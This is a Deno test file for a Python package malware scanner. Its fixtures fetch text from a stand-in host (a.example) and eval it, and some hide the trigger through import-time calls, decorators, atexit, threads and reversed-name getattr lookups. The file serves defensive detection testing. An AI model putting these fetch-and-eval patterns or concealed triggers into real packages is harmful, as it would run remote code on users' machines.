/**
 * Data that a library cuts out of an answer and evaluates: malice where the package itself runs it.
 *
 * @module
 */
import { assert, assertEquals } from "@std/assert";
import { readPackage } from "../../workers/analysis/packages/reading.ts";
import { packWheel } from "../../workers/analysis/packages/pack.ts";
import { wheelOf } from "../helpers/package_index.ts";

type Files = Record<string, string>;

Deno.test("data that is cut out of an answer and evaluated is malice where the package runs it itself", async () => {
  const get =
    "import requests\n\ndef get(code):\n    text = requests.get(f'https://a.example/{code}').text\n";
  const part = "    return eval(text[text.find('=') + 1 : text.find(';')])\n";
  const cases: [what: string, files: Files, severity: string][] = [
    ["only a user calls it", { "kit/a.py": get + part }, "medium"],
    ["its callers are called by users", {
      "kit/a.py": get + part,
      "kit/__init__.py": "from .a import get\n\ndef table(code):\n    return get(code)\n",
    }, "medium"],
    ["all of the answer", { "kit/a.py": get + "    return eval(text)\n" }, "critical"],
    ["from a mark on, by a name", {
      "kit/a.py": get + "    part = text[text.find('['):]\n    return eval(part)[0]\n",
    }, "medium"],
    ["a piece", { "kit/a.py": get + "    return eval(text.split('=')[1])\n" }, "medium"],
    ["where it is run as a script", {
      "kit/a.py": get + part + "\nif __name__ == '__main__':\n    print(get(1))\n",
    }, "medium"],
    ["an open end", { "kit/a.py": get + "    return eval(text[1:])\n" }, "critical"],
    ["by another name", {
      "kit/a.py": get +
        "    part = text[text.find('['):]\n    part = text\n    return eval(part)\n",
    }, "critical"],
    ["for what it does", {
      "kit/a.py": get + "    eval(text[text.find('=') + 1:])\n    return text\n",
    }, "critical"],
    ["where it is run as no script", {
      "kit/a.py": get + part + "\nif __name__ == '__main__':\n    pass\nelse:\n    get(1)\n",
    }, "critical"],
    ["by its name as a text", {
      "kit/a.py": get + part + "\nglobals()['g' + 'et'](1)\n",
    }, "critical"],
    ["by its name in another module", {
      "kit/a.py": get + part,
      "kit/b.py": "from . import a\n\ngetattr(a, 'teg'[::-1])(1)\n",
    }, "critical"],
    ["where the name is not that of a script", {
      "kit/a.py": get + part + "\nif __name__ == 'kit.a':\n    print(get(1))\n",
    }, "critical"],
    ["with names", {
      "kit/a.py": get + part.replace(")])", ")], globals())"),
    }, "critical"],
    [
      "at import",
      { "kit/a.py": get + part, "kit/b.py": "from .a import get\nget(1)\n" },
      "critical",
    ],
    ["by a caller at import", {
      "kit/a.py": get + part,
      "kit/b.py": "from . import a\n\ndef go():\n    a.get(1)\n\ngo()\n",
    }, "critical"],
    ["in a class", {
      "kit/a.py": get + part,
      "kit/b.py": "from .a import get\n\nclass K:\n    x = get(1)\n",
    }, "critical"],
    ["in a thread", {
      "kit/a.py": get + part,
      "kit/b.py": "import threading\nfrom .a import get\n\ndef go():\n" +
        "    threading.Thread(target=get).start()\n",
    }, "critical"],
    [
      "by a decorator that is not known",
      { "kit/a.py": get.replace("def", "@run\ndef") + part },
      "critical",
    ],
    ["by a decorator of the package", {
      "kit/a.py": "def run(func):\n    func(1)\n    return func\n\n" +
        get.replace("def", "@run\ndef") + part,
    }, "critical"],
    ["by what a decorator makes of it, at once", {
      "kit/a.py": "def run(func):\n    def wrapper(*a):\n        return func(*a)\n" +
        "    wrapper(1)\n    return wrapper\n\n" + get.replace("def", "@run\ndef") + part,
    }, "critical"],
    ["by a default of what a decorator makes of it", {
      "kit/a.py": "def run(func):\n    def wrapper(x=func(1)):\n        return x\n" +
        "    return wrapper\n\n" + get.replace("def", "@run\ndef") + part,
    }, "critical"],
    ["by a decorator that keeps it", {
      "kit/a.py": "KEPT = []\n\ndef run(func):\n    KEPT.append(func)\n    return func\n\n" +
        get.replace("def", "@run\ndef") + part + "\nfor each in KEPT:\n    each(1)\n",
    }, "critical"],
    ["by a decorator that keeps what it makes of it", {
      "kit/a.py": "KEPT = []\n\ndef run(func):\n    def wrapper(*a):\n        return func(*a)\n" +
        "    KEPT.append(wrapper)\n    return wrapper\n\n" +
        get.replace("def", "@run\ndef") + part + "\nfor each in KEPT:\n    each(1)\n",
    }, "critical"],
    ["by a decorator of what a decorator makes of it", {
      "kit/a.py": "import atexit\n\ndef run(func):\n    @atexit.register\n" +
        "    def wrapper(*a):\n        return func(*a)\n    return wrapper\n\n" +
        get.replace("def", "@run\ndef") + part,
    }, "critical"],
    ["by a decorator of which there are two", {
      "kit/b.py":
        "def run(func):\n    def wrapper(*a):\n        return func(*a)\n    return wrapper\n",
      "kit/c.py": "def run(func):\n    return func(1)\n",
      "kit/a.py": "from .c import run\n" + get.replace("def", "@run\ndef") + part,
    }, "critical"],
    ["by a decorator that is given another name", {
      "kit/a.py": "import atexit\n\ndef run(func):\n    return func\n\nrun = atexit.register\n\n" +
        get.replace("def", "@run\ndef") + part,
    }, "critical"],
    ["by a decorator of the interpreter", {
      "kit/a.py": "import atexit\n" + get.replace("def", "@atexit.register\ndef") + part,
    }, "critical"],
    ["by a decorator through a method", {
      "kit/a.py": "def run(func):\n    func.__call__(1)\n    return func\n\n" +
        get.replace("def", "@run\ndef") + part,
    }, "critical"],
    ["by its name as a text, in two steps", {
      "kit/a.py": get + part,
      "kit/b.py": "from . import a\n\nf = getattr(a, 'teg'[::-1])\nf(1)\n",
    }, "critical"],
    ["by its name as a text, of a module that a text names", {
      "kit/a.py": get + part,
      "kit/b.py": "from . import a\n\nm = globals()['a']\nf = getattr(m, 'teg'[::-1])\nf(1)\n",
    }, "critical"],
    ["by a text among the names of a module that has all of them", {
      "kit/a.py": get + part,
      "kit/b.py": "from .a import *\n\nglobals()['g' + 'et'](1)\n",
    }, "critical"],
    ["where a decorator of the package waits for callers", {
      "kit/allowed.py": "from functools import wraps\n\ndef allowed(name):\n" +
        "    def decorator(func):\n        @wraps(func)\n        def wrapper(*a, **k):\n" +
        "            if name:\n                return func(*a, **k)\n            return None\n\n" +
        "        wrapper.__doc__ = func.__doc__\n        return wrapper\n\n    return decorator\n",
      "kit/a.py": "from kit.allowed import allowed\n" +
        get.replace("def", "@allowed(name='x')\ndef") + part,
    }, "medium"],
    ["where answers are kept", {
      "kit/a.py": "from functools import lru_cache\n" +
        get.replace("def", "@lru_cache(maxsize=8)\ndef") + part,
    }, "medium"],
    ["where attributes of an object are looked up that is called like a file", {
      "kit/a.py": get + part,
      "kit/a_row.py": "def same(row, name):\n    f = getattr(row, name)\n    return f\n",
      "kit/row.py": "",
    }, "medium"],
    ["where another module looks up its own names by a text", {
      "kit/a.py": get + part,
      "kit/b.py": "class Row:\n    pass\n\ndef make(kind):\n    return globals()[kind]()\n",
    }, "medium"],
    ["by Python", {
      "kit/a.py": get + part,
      "kit/b.py": "from .a import get\n\ndef __getattr__(name):\n    return get(name)\n",
    }, "critical"],
  ];
  for (const [what, files, severity] of cases) {
    const wheel = wheelOf({ name: "helper-kit", version: "1.0", files });
    const packed = packWheel(wheel, { name: "helper-kit", version: "1.0", symbols: "" });
    assert(packed.kind !== "refused");
    const { findings } = await readPackage(Uint8Array.fromBase64(packed.content), "helper-kit");
    assertEquals([what, ...findings.map((each) => each.severity)], [what, severity]);
  }
});
